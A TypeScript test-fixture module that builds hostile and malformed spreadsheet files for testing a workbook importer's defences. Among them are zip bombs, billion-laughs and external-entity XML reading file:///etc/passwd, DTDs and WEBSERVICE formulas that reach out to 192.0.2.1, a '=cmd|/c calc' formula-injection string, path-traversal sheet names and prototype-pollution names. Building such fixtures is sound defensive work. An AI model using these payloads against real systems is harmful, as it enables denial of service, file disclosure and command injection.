import { strToU8, zipSync } from 'fflate';
import { LONGEST_TEXT, MOST_CELLS, MOST_MERGES, MOST_SHEETS } from '../../src/workbook/file/limits';
import {
  cellXml,
  officeFile,
  officeParts,
  rowXml,
  SCORE_ROWS,
  scoreRowsXml,
  sheetXml,
  type OfficeParts,
} from './office-files';
import type { HostileFile } from './hostile-file';
import { CONTRADICTING, OTHERWISE_WRITTEN, SMALL_BOMBS, TEXTS } from './hostile-kinds';
import { oleFile } from './ole-file';
import {
  biff5ScoreCells,
  biff5Stream,
  biffRecord,
  odsRows,
  openDocument,
  SCORE_FILES,
  word,
} from './score-files';
import { entry, packedZeros, zipFile, type RawEntry } from './zip-file';

const GIGABYTE = 2 ** 30;
const SHEET = 'xl/worksheets/sheet1.xml';

const entriesOf = (parts: OfficeParts = {}): RawEntry[] =>
  Object.entries(officeParts(parts)).map(([name, bytes]) => entry(name, bytes));

/** A workbook whose sheet is this archive entry instead. */
const withSheet = (raw: Partial<RawEntry>): Uint8Array =>
  zipFile(entriesOf().map((one) => (one.name === SHEET ? { ...one, ...raw } : one)));

const withPart = (path: string, xml: string | null): Uint8Array => officeFile({ parts: { [path]: xml } });

const repeat = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => make(index)).join('');

/** Rows of numbers below the score table. */
const numbers = (rows: number, columns: number): string =>
  repeat(rows, (row) =>
    rowXml(
      20 + row,
      repeat(columns, (column) => cellXml(20 + row, column, ((row * 7 + column) % 9000) + 101)),
    ),
  );

const scoresAndMore = (rows: string, behind = ''): Uint8Array =>
  officeFile({
    sheets: { คะแนน: sheetXml(scoreRowsXml() + rows, '<dimension ref="A1:XFD1048576"/>', behind) },
  });

const randomBytes = (length: number): Uint8Array => {
  let state = 20670401;
  return Uint8Array.from({ length }, () => (state = (state * 1103515245 + 12345) & 0x7fffffff) >> 16);
};

/** Thai text that hardly repeats itself. */
const longText = (length: number, seed: number): string => {
  const letter = (at: number): string => String.fromCharCode(0xe01 + (((at * at + seed * at) % 1_009) % 46));
  const block = Array.from({ length: 1_009 }, (_, at) => letter(at)).join('');
  return block.repeat(Math.ceil(length / block.length)).slice(0, length);
};

const LAUGHS = `<!DOCTYPE sst [<!ENTITY a0 "ha">${repeat(12, (index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`)}]>`;

const formulaCell = (place: string, formula: string, value: string | number): string =>
  `<c r="${place}"><f>${formula}</f><v>${value}</v></c>`;

/** The score table with every score as a formula that must not be followed; its stored result is the score. */
const formulaRows = (formula: (row: number) => string): string =>
  SCORE_ROWS.map(([name, score], row) =>
    rowXml(
      row,
      cellXml(row, 0, name ?? '') +
        (typeof score === 'number'
          ? formulaCell(`B${row + 1}`, formula(row), score)
          : score
            ? cellXml(row, 1, score)
            : ''),
    ),
  ).join('');

const excel2003 = (cells: string, columns = ''): Uint8Array =>
  strToU8(
    `<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table>${columns}<Row>${cells}</Row></Table></Worksheet></Workbook>`,
  );

const ARCHIVES: readonly HostileFile[] = [
  {
    name: 'zip bomb: 4 MB that unpack to 4 GB',
    outcome: 'unsafe',
    make: () => withSheet({ packed: packedZeros(4 * GIGABYTE), size: 4 * GIGABYTE - 1 }),
  },
  {
    name: 'zip bomb that declares 2 MB',
    outcome: 'unsafe',
    make: () => withSheet({ packed: packedZeros(GIGABYTE), size: 2 * 2 ** 20 }),
  },
  {
    name: 'zip bomb of many honest parts',
    outcome: 'too-large',
    make: () => {
      const block = randomBytes(30_000);
      const picture = entry('', Buffer.concat(Array.from({ length: 1_100 }, () => block)));
      const parts = Array.from({ length: 8 }, (_, index) => ({ ...picture, name: `xl/media/${index}.png` }));
      return zipFile([...entriesOf(), ...parts]);
    },
  },
  {
    name: 'zip bomb: files that share their bytes',
    outcome: 'unsafe',
    make: () => {
      const [first, ...rest] = entriesOf();
      const shared = Array.from({ length: 2_000 }, (_, index) => ({
        ...first!,
        name: `xl/${index}.xml`,
        offset: 0,
      }));
      return zipFile([first!, ...rest, ...shared]);
    },
  },
  {
    name: 'zip bomb in a zip in a zip in a zip',
    outcome: 'archive',
    make: () =>
      [1, 2, 3].reduce(
        (inner) => zipSync({ 'inner.zip': inner }),
        zipFile([{ ...entry('bomb', ''), packed: packedZeros(GIGABYTE), size: GIGABYTE }]),
      ),
  },
  {
    name: 'zip bomb inside a picture of a workbook',
    outcome: 'scores',
    make: () =>
      officeFile({
        parts: {
          'xl/media/image1.png': zipFile([
            { ...entry('bomb', ''), packed: packedZeros(GIGABYTE), size: GIGABYTE },
          ]),
        },
      }),
  },
  {
    name: '20,000 parts',
    outcome: 'too-large',
    make: () =>
      zipFile([
        ...entriesOf(),
        ...Array.from({ length: 20_000 }, (_, at) => entry(`xl/p/${at}.xml`, '<a/>')),
      ]),
  },
  { name: 'size declared too small', outcome: 'unsafe', make: () => withSheet({ size: 100 }) },
  { name: 'size declared too large', outcome: 'damaged', make: () => withSheet({ size: 100_000 }) },
  { name: 'wrong checksum', outcome: 'damaged', make: () => withSheet({ crc: 1 }) },
  { name: 'part with a password of ZIP', outcome: 'encrypted', make: () => withSheet({ flags: 1 }) },
  {
    name: 'two parts of one name',
    outcome: 'unsafe',
    make: () => zipFile([...entriesOf(), entry(SHEET, sheetXml())]),
  },
  {
    name: 'bytes behind the archive',
    outcome: 'scores',
    make: () => Uint8Array.from(Buffer.concat([officeFile(), new Uint8Array(100)])),
  },
];

const XML: readonly HostileFile[] = [
  {
    name: 'a billion laughs (entities in entities)',
    outcome: 'unsafe',
    make: () => withPart('xl/styles.xml', `<?xml version="1.0"?>${LAUGHS}<styleSheet>&a12;</styleSheet>`),
  },
  {
    name: 'external entity',
    outcome: 'unsafe',
    make: () =>
      withPart(
        SHEET,
        `<!-- <a> --><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${sheetXml().replace(/^.*\n/, '')}`,
      ),
  },
  {
    name: 'document type from the net',
    outcome: 'unsafe',
    make: () => withPart('xl/workbook.xml', '<!DOCTYPE w SYSTEM "http://192.0.2.1/w.dtd"><workbook/>'),
  },
  {
    name: '300,000 elements in one another',
    outcome: 'unsafe',
    make: () => withPart(SHEET, sheetXml('<a>'.repeat(300_000))),
  },
  {
    name: 'sheet that ends too early',
    outcome: 'damaged',
    make: () => withPart(SHEET, sheetXml().slice(0, -40)),
  },
  {
    name: 'quotes that never close',
    outcome: 'damaged',
    make: () => withPart(SHEET, sheetXml(`<row r="1"><c r="A1 ${'<c a="'.repeat(100_000)}`)),
  },
  {
    name: 'sheet of 5 million tiny elements',
    outcome: 'unsafe',
    make: () => withPart(SHEET, sheetXml('<x/>'.repeat(5_000_000))),
    heavy: true,
  },
  {
    name: 'sheet in UTF-16',
    outcome: 'scores',
    make: () =>
      officeFile({
        parts: {
          [SHEET]: Uint8Array.from(Buffer.from(`\ufeff${sheetXml().replace('UTF-8', 'UTF-16')}`, 'utf16le')),
        },
      }),
  },
];

const PASSWORDS: readonly HostileFile[] = [
  {
    name: 'password, ECMA-376 agile',
    outcome: 'encrypted',
    make: () =>
      oleFile({
        EncryptionInfo: Uint8Array.of(4, 0, 4, 0, 0x40, 0, 0, 0, ...strToU8('<encryption/>')),
        EncryptedPackage: randomBytes(9_000),
      }),
  },
  {
    name: 'password, ECMA-376 standard',
    outcome: 'encrypted',
    make: () =>
      oleFile({ EncryptionInfo: Uint8Array.of(3, 0, 2, 0, 0x24), EncryptedPackage: randomBytes(9_000) }),
  },
  {
    name: 'password, .xls',
    outcome: 'encrypted',
    make: () => oleFile({ Workbook: biff5Stream(biff5ScoreCells(), [biffRecord(0x002f, word(0, 1, 2))]) }),
  },
  {
    name: 'password, .ods',
    outcome: 'encrypted',
    make: () =>
      openDocument(
        odsRows(),
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>',
      ),
  },
];

const half = (bytes: Uint8Array): Uint8Array => bytes.subarray(0, Math.floor(bytes.length / 2));

const TRUNCATED: readonly HostileFile[] = [
  ...[
    'excel.xlsx',
    'binary.xlsb',
    'excel97 (BIFF8).xls',
    'excel95 (BIFF5, Thai code page).xls',
    'library.ods',
  ].map((kind): HostileFile => ({
    name: `half of ${kind}`,
    outcome: 'damaged',
    make: () => half(SCORE_FILES[kind]!()),
  })),
  {
    name: 'half of excel2003 (XML).xls',
    outcome: 'damaged',
    make: () => half(SCORE_FILES['excel2003 (XML).xls']!()),
  },
  {
    name: '.xlsx without its last byte',
    outcome: 'damaged',
    make: () => officeFile().subarray(0, -1),
  },
  {
    name: 'page cut off inside a cell',
    outcome: 'damaged',
    make: () => strToU8('<table><tr><td>การใช้อำนาจ<td>92.0'),
  },
];

/** The files are all named .xlsx. */
const WRONG_EXTENSION: readonly HostileFile[] = [
  'excel97 (BIFF8).xls',
  'binary.xlsb',
  'opendocument.ods',
  'excel2003 (XML).xls',
  'page UTF-8 (HTML).xls',
  'comma UTF-8.csv',
  'tab UTF-16 LE BOM (Unicode text).csv',
].map((kind) => ({ name: `${kind} named .xlsx`, outcome: 'scores', make: SCORE_FILES[kind]! }));

const OTHERS: readonly HostileFile[] = [
  { name: 'empty file', outcome: 'not-a-workbook', make: () => new Uint8Array() },
  { name: 'one byte', outcome: 'not-a-workbook', make: () => Uint8Array.of(0) },
  { name: 'random bytes', outcome: 'not-a-workbook', make: () => randomBytes(200_000) },
  {
    name: 'PDF',
    outcome: 'pdf',
    make: () => strToU8('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj'),
  },
  {
    name: 'JPEG',
    outcome: 'picture',
    make: () => Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0),
  },
  {
    name: 'PNG',
    outcome: 'picture',
    make: () => Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0),
  },
  {
    name: 'program',
    outcome: 'not-a-workbook',
    make: () => Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, ...randomBytes(900)]),
  },
  { name: 'rich text', outcome: 'word', make: () => strToU8('{\\rtf1\\ansi ผลคะแนน}') },
  {
    name: 'Word document (.docx)',
    outcome: 'word',
    make: () =>
      zipSync({
        '[Content_Types].xml': strToU8(
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
        'word/document.xml': strToU8('<w:document/>'),
      }),
  },
  {
    name: 'Word document (.doc)',
    outcome: 'word',
    make: () => oleFile({ WordDocument: randomBytes(5_000) }),
  },
  {
    name: 'page without a table',
    outcome: 'not-a-workbook',
    make: () => strToU8('<html><body>Session expired</body></html>'),
  },
  { name: 'prose', outcome: 'no-scores', make: () => strToU8('บันทึกการประชุม\nวาระที่ ๑') },
];

const OLD_EXCEL: readonly HostileFile[] = [
  {
    name: '.xls with sectors in a circle',
    outcome: 'damaged',
    make: () =>
      oleFile(
        { Book: biff5Stream(biff5ScoreCells()) },
        { chain: (sector, next) => (sector === 3 ? 1 : next) },
      ),
  },
  {
    name: '.xls with a directory in a circle',
    outcome: 'damaged',
    make: () =>
      oleFile(
        { Book: biff5Stream(biff5ScoreCells()) },
        { chain: (sector, next) => (next === -2 ? sector : next) },
      ),
  },
  {
    name: '.xls with a directory nowhere',
    outcome: 'damaged',
    make: () => oleFile({}, { directoryStart: 9_999 }),
  },
  {
    name: '.xls cut off inside a record',
    outcome: 'damaged',
    make: () =>
      oleFile({
        Book: Uint8Array.from([...biff5Stream(biff5ScoreCells()).slice(0, -4), 0x04, 0x02, 0xff, 0xff]),
      }),
  },
  {
    name: '.xls with hyperlinks over whole sheets',
    outcome: 'scores',
    make: () => {
      const link = biffRecord(0x01b8, word(0, 65_535, 0, 255), new Uint8Array(40));
      return oleFile({
        Book: biff5Stream([...biff5ScoreCells(), ...Array.from({ length: 2_000 }, () => link)]),
      });
    },
  },
  {
    name: '.xls with two million cells',
    outcome: 'too-large',
    make: () => {
      const row = (index: number): Uint8Array =>
        biffRecord(0x00bd, word(index, 0), new Uint8Array(256 * 6), word(255));
      return oleFile({
        Book: biff5Stream(Array.from({ length: 4_200 }, (_, index) => row(index))).subarray(0, 2 ** 22 * 8),
      });
    },
  },
];

const ODS_CELL = '<table:table-cell office:value-type="float" office:value="1"';

const OTHER_FORMATS: readonly HostileFile[] = [
  {
    name: '.ods with one cell repeated 17 billion times',
    outcome: 'too-large',
    make: () =>
      openDocument(
        `<table:table-row table:number-rows-repeated="1048576">${ODS_CELL} table:number-columns-repeated="16384"><text:p>1</text:p></table:table-cell></table:table-row>`,
      ),
  },
  {
    name: '.ods with empty cells repeated to the edge',
    outcome: 'scores',
    make: () =>
      openDocument(
        `${odsRows()}<table:table-row table:number-rows-repeated="1048563"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>`,
      ),
  },
  {
    name: 'Excel 2003 XML with a merge of everything',
    outcome: 'too-large',
    make: () =>
      excel2003('<Cell ss:MergeAcross="16383" ss:MergeDown="1048575"><Data ss:Type="Number">1</Data></Cell>'),
  },
  {
    name: 'Excel 2003 XML with a billion columns',
    outcome: 'too-large',
    make: () => excel2003('', '<Column ss:Span="1000000000" ss:Width="40"/>'),
  },
  {
    name: 'page with cells that cover themselves',
    outcome: 'no-scores',
    make: () => strToU8('<table><tr><td colspan=0 rowspan=2>a<td colspan=-1>b<tr><td>c</table>'),
  },
  {
    name: 'page with a million covered cells',
    outcome: 'too-large',
    make: () => strToU8(`<table>${'<tr><td colspan=1000 rowspan=65534>a'.repeat(300_000)}</table>`),
  },
  {
    name: 'page with 500,000 open comments',
    outcome: 'no-scores',
    make: () => strToU8(`<table><tr><td>a</td></tr>${'<!-- <a "'.repeat(500_000)}`),
  },
  {
    name: 'page with tables 100,000 deep',
    outcome: 'damaged',
    make: () => strToU8('<table><tr><td>'.repeat(100_000)),
  },
  {
    name: 'Excel 2003 XML with a row that no sheet has',
    outcome: 'damaged',
    make: () =>
      strToU8(
        new TextDecoder()
          .decode(SCORE_FILES['excel2003 (XML).xls']!())
          .replace('ss:Index="1"', 'ss:Index="4294967295"'),
      ),
  },
  {
    name: '.ods with rows that no sheet has',
    outcome: 'damaged',
    make: () =>
      openDocument(
        `<table:table-row table:number-rows-repeated="99999999999"><table:table-cell/></table:table-row>${odsRows()}`,
      ),
  },
  {
    name: 'page with a name merged over 65,534 rows',
    outcome: 'scores',
    make: () => {
      const page = new TextDecoder().decode(SCORE_FILES['page UTF-8 (HTML).xls']!());
      const last = page.lastIndexOf('<tr><td ') + '<tr><td '.length;
      return strToU8(`${page.slice(0, last)}rowspan=65534 ${page.slice(last)}`);
    },
  },
  {
    name: 'page with names of JavaScript as entities',
    outcome: 'scores',
    make: () =>
      strToU8(
        new TextDecoder()
          .decode(SCORE_FILES['page UTF-8 (HTML).xls']!())
          .replace('<p>', '<p>&valueOf;&toString;</p><p>'),
      ),
  },
  {
    name: 'CSV of 60 MB',
    outcome: 'too-large',
    make: () => strToU8('การใช้อำนาจ,92.01\n'.repeat(1_500_000)),
    heavy: true,
  },
  { name: 'CSV of 17 MB', outcome: 'too-large', make: () => new Uint8Array(17 * 2 ** 20).fill(0x31) },
  { name: 'CSV of 5 million lines', outcome: 'too-large', make: () => strToU8('1\n'.repeat(5_000_000)) },
  {
    name: 'CSV of 6 million fields in a line',
    outcome: 'too-large',
    make: () => strToU8('1,'.repeat(6_000_000)),
  },
  {
    name: 'CSV with a quote that never closes',
    outcome: 'open-quote',
    make: () => strToU8(`"${'การใช้อำนาจ 92.01 '.repeat(200_000)}`),
  },
];

const LARGE: readonly HostileFile[] = [
  {
    name: 'half a million cells',
    outcome: 'scores',
    make: () => scoresAndMore(numbers(5_000, 100)),
    heavy: true,
  },
  {
    name: 'a million cells',
    outcome: 'too-large',
    make: () => scoresAndMore(numbers(10_000, 100)),
    heavy: true,
  },
  {
    name: '60,000 agencies in one sheet',
    outcome: 'scores',
    make: () => scoresAndMore(numbers(60_000, 11)),
    heavy: true,
  },
  {
    name: '330,000 agencies with one score each',
    outcome: 'scores',
    make: () => scoresAndMore(numbers(330_000, 2)),
    heavy: true,
  },
  {
    name: 'a million cells without content, formatted to the edge',
    outcome: 'scores',
    make: () =>
      scoresAndMore(repeat(10_000, (row) => `<row r="${row + 21}">${'<c s="0"/>'.repeat(100)}</row>`)),
    heavy: true,
  },
  {
    name: 'a lone cell in XFD1048576',
    outcome: 'scores',
    make: () => scoresAndMore(rowXml(1_048_575, cellXml(1_048_575, 16_383, 1))),
  },
  { name: '16,384 columns', outcome: 'scores', make: () => scoresAndMore(numbers(30, 16_384)), heavy: true },
  {
    name: '100,000 rows with a cell in the last column',
    outcome: 'scores',
    make: () => scoresAndMore(repeat(100_000, (row) => rowXml(20 + row, cellXml(20 + row, 16_383, 101)))),
    heavy: true,
  },
  {
    name: '600 texts of 32,767 letters',
    outcome: 'scores',
    make: () =>
      scoresAndMore(
        repeat(600, (row) => rowXml(20 + row, cellXml(20 + row, 0, longText(LONGEST_TEXT, row)))),
      ),
    heavy: true,
  },
  {
    name: 'a text of 20 MB',
    outcome: 'too-large',
    make: () => scoresAndMore(rowXml(20, cellXml(20, 0, longText(20_000_000, 1)))),
    heavy: true,
  },
  {
    name: '15 sheets with a cell in the last corner',
    outcome: 'scores',
    make: () => {
      const corner = sheetXml(rowXml(1_048_575, cellXml(1_048_575, 16_383, 101)));
      const far = Array.from({ length: 15 }, (_, at) => [`S${at}`, corner] as const);
      return officeFile({ sheets: { คะแนน: sheetXml(), ...Object.fromEntries(far) } });
    },
    heavy: true,
  },
  {
    name: 'a merge of the whole sheet, a cell in its last corner',
    outcome: 'too-large',
    make: () =>
      scoresAndMore(
        rowXml(1_048_575, cellXml(1_048_575, 16_383, 101)),
        '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      ),
  },
  {
    name: '300 sheets',
    outcome: 'scores',
    make: () =>
      officeFile({
        sheets: {
          คะแนน: sheetXml(),
          ...Object.fromEntries(
            Array.from({ length: 299 }, (_, at) => [`S${at}`, sheetXml(rowXml(0, cellXml(0, 0, at)))]),
          ),
        },
      }),
  },
  {
    name: `${MOST_SHEETS + 1} sheets`,
    outcome: 'too-large',
    make: () =>
      officeFile({
        sheets: Object.fromEntries(
          Array.from({ length: MOST_SHEETS + 1 }, (_, at) => [`S${at}`, sheetXml()]),
        ),
      }),
  },
  {
    name: '5,000 sheets',
    outcome: 'too-large',
    make: () =>
      officeFile({
        sheets: Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`S${at}`, sheetXml()])),
      }),
    heavy: true,
  },
  {
    name: '200,000 merges',
    outcome: 'too-large',
    make: () =>
      scoresAndMore(
        '',
        `<mergeCells>${repeat(200_000, (at) => `<mergeCell ref="D${at + 1}:E${at + 1}"/>`)}</mergeCells>`,
      ),
  },
  {
    name: '50,000 merges over one another',
    outcome: 'scores',
    make: () =>
      scoresAndMore(
        '',
        `<mergeCells>${repeat(50_000, (at) => `<mergeCell ref="C${(at % 50) + 1}:XFD${1_048_576 - at}"/>`)}</mergeCells>`,
      ),
  },
  {
    name: `${MOST_MERGES + 1} merges`,
    outcome: 'too-large',
    make: () =>
      scoresAndMore('', `<mergeCells>${'<mergeCell ref="D1:E2"/>'.repeat(MOST_MERGES + 1)}</mergeCells>`),
  },
  {
    name: 'hyperlinks over the whole sheet',
    outcome: 'scores',
    make: () =>
      scoresAndMore(
        '',
        `<hyperlinks>${'<hyperlink ref="A1:XFD1048576" location="x"/>'.repeat(1_000)}</hyperlinks>`,
      ),
  },
  {
    name: '65,490 cell formats',
    outcome: 'scores',
    make: () =>
      officeFile({
        styles: `<numFmts count="9000">${repeat(9_000, (at) => `<numFmt numFmtId="${at + 164}" formatCode="0.0&quot;${at}&quot;"/>`)}</numFmts><cellXfs count="65490">${repeat(65_490, (at) => `<xf numFmtId="${164 + (at % 9_000)}" applyNumberFormat="1"><alignment wrapText="1"/></xf>`)}</cellXfs>`,
      }),
  },
  {
    name: 'a million cell formats',
    outcome: 'too-large',
    make: () => officeFile({ styles: `<cellXfs>${repeat(1_100_000, (at) => `<xf f="${at}"/>`)}</cellXfs>` }),
    heavy: true,
  },
  {
    name: `${MOST_CELLS + 1} shared strings`,
    outcome: 'too-large',
    make: () => officeFile({ strings: repeat(MOST_CELLS + 1, (at) => `<si><t>${at}</t></si>`) }),
    heavy: true,
  },
];

const ODD: readonly HostileFile[] = [
  {
    name: 'sheet names that Excel would refuse',
    outcome: 'scores',
    make: () =>
      officeFile({
        sheets: { [`[คะแนน]:*?/\\'${'ก'.repeat(300)}`]: sheetXml(), ' ': sheetXml(''), "'": sheetXml('') },
      }),
  },
  {
    name: 'sheet name of 20,000 letters',
    outcome: 'scores',
    make: () => officeFile({ sheets: { ['ก'.repeat(20_000)]: sheetXml() } }),
  },
  {
    name: 'sheet name like a path 2,000 folders up',
    outcome: 'scores',
    make: () => officeFile({ sheets: { [`${'../'.repeat(2_000)}etc/passwd`]: sheetXml() } }),
  },
  {
    name: 'two sheets of one name',
    outcome: 'damaged',
    make: () =>
      officeFile({
        parts: {
          'xl/workbook.xml': new TextDecoder()
            .decode(officeParts()['xl/workbook.xml'])
            .replace(/(<sheet )(.*?\/>)/, '$1$2$1$2'),
        },
      }),
  },
  {
    name: 'sheet named __proto__',
    outcome: 'scores',
    make: () =>
      officeFile({
        sheets: { ['__proto__ ']: sheetXml() },
        parts: {
          'xl/workbook.xml': new TextDecoder()
            .decode(officeParts()['xl/workbook.xml'])
            .replace('คะแนน', '__proto__'),
        },
      }),
  },
  {
    name: 'text that looks like formulas',
    outcome: 'scores',
    make: () =>
      scoresAndMore(
        ['=cmd|/c calc', '+1+1', '-1', '@SUM(A1)', '=HYPERLINK("x")']
          .map((text, at) => rowXml(20 + at, cellXml(20 + at, 0, text.replaceAll('"', '&quot;'))))
          .join(''),
      ),
  },
  {
    name: 'scores as formulas in a circle',
    outcome: 'scores',
    make: () => officeFile({ sheets: { คะแนน: sheetXml(formulaRows((row) => `B${row + 1}+B${row + 2}`)) } }),
  },
  {
    name: 'scores as formulas on other files and addresses',
    outcome: 'scores',
    make: () =>
      officeFile({
        sheets: {
          คะแนน: sheetXml(
            formulaRows(() => "'\\\\192.0.2.1\\x\\[x.xlsx]S'!$A$1+WEBSERVICE(&quot;http://192.0.2.1/&quot;)"),
          ),
        },
      }),
  },
  {
    name: 'links to other files, web queries and macros as parts',
    outcome: 'scores',
    make: () => {
      const relations = (type: string, target: string): string =>
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
      return officeFile({
        behind: '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        parts: {
          'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
          'xl/externalLinks/_rels/externalLink1.xml.rels': relations(
            'externalLinkPath',
            'file:///etc/passwd',
          ),
          'xl/worksheets/_rels/sheet1.xml.rels': relations('image', 'http://192.0.2.1/x.png'),
          'xl/connections.xml':
            '<connections><connection><webPr url="http://192.0.2.1/"/></connection></connections>',
          'xl/vbaProject.bin': randomBytes(5_000),
        },
      });
    },
  },
  {
    name: 'shared string that is not there',
    outcome: 'damaged',
    make: () =>
      officeFile({
        sheets: { S: sheetXml(rowXml(0, '<c r="A1" t="s"><v>4000000000</v></c>')) },
        strings: '<si><t>a</t></si>',
      }),
  },
  {
    name: 'strings part missing',
    outcome: 'damaged',
    make: () =>
      officeFile({
        sheets: { S: sheetXml(rowXml(0, '<c r="A1" t="s"><v>0</v></c>')) },
        strings: '<si><t>a</t></si>',
        parts: { 'xl/sharedStrings.xml': null },
      }),
  },
  { name: 'sheet part missing', outcome: 'damaged', make: () => withPart(SHEET, null) },
  { name: 'workbook part missing', outcome: 'damaged', make: () => withPart('xl/workbook.xml', null) },
  { name: 'relations missing', outcome: 'damaged', make: () => withPart('xl/_rels/workbook.xml.rels', null) },
  { name: 'styles part missing', outcome: 'damaged', make: () => withPart('xl/styles.xml', null) },
  {
    name: 'defined names of junk',
    outcome: 'scores',
    make: () =>
      officeFile({
        behind: `<definedNames>${repeat(20_000, (at) => `<definedName name="n${at}" localSheetId="${at * 7}">#REF!${'!'.repeat(at % 90)}</definedName>`)}<definedName name="_xlnm._FilterDatabase" localSheetId="-1">]]&gt;</definedName><definedName/></definedNames>`,
      }),
  },
  {
    name: 'cells in rows and columns that no sheet has',
    outcome: 'damaged',
    make: () =>
      scoresAndMore(
        '<row r="99999999999"><c r="ZZZZZZZZZ99999999999"><v>1</v></c></row><row r="-5"><c r="A-5"><v>1</v></c></row><row r="x"><c r="??"><v>1</v></c></row>',
      ),
  },
];

/** Files that are broken or made to harm, by kind. */
export const HOSTILE_GROUPS: Readonly<Record<string, readonly HostileFile[]>> = {
  'Archives that unpack to gigabytes, or lie': ARCHIVES,
  'Entities and broken XML': XML,
  'XML written otherwise than most programs do': OTHERWISE_WRITTEN,
  'What contradicts itself': CONTRADICTING,
  'A few kilobytes that become gigabytes': SMALL_BOMBS,
  'Text of other programs': TEXTS,
  Passwords: PASSWORDS,
  'Cut off': TRUNCATED,
  'Wrong extension': WRONG_EXTENSION,
  'Files of other programs': OTHERS,
  'Old Excel': OLD_EXCEL,
  'OpenDocument, Excel 2003 XML, pages, CSV': OTHER_FORMATS,
  'Very large': LARGE,
  'Odd names, texts, formulas and links': ODD,
};

export const HOSTILE_FILES: readonly HostileFile[] = Object.values(HOSTILE_GROUPS).flat();
